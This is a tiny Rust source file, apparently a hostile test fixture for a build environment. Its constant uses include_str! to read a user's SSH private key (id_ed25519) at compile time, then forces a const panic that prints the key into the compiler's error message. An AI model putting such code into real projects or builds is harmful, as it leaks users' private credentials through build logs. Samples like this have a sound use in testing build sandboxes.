//! Brings the user's key into the compiler's message.
const KEY: &str = include_str!(concat!(env!("HOSTILE_WORLD"), "/home/.ssh/id_ed25519"));
const _: () = panic!("{}", KEY);
